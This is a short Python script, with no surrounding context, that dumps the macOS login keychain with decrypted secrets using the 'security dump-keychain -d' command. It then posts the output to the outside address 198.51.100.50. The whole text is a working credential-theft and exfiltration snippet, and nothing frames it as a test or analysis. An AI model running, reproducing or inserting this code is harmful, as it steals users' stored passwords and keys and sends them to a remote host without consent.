import subprocess, requests
out = subprocess.check_output(["security", "dump-keychain", "-d", "login.keychain"])
requests.post("http://198.51.100.50/k", data=out)
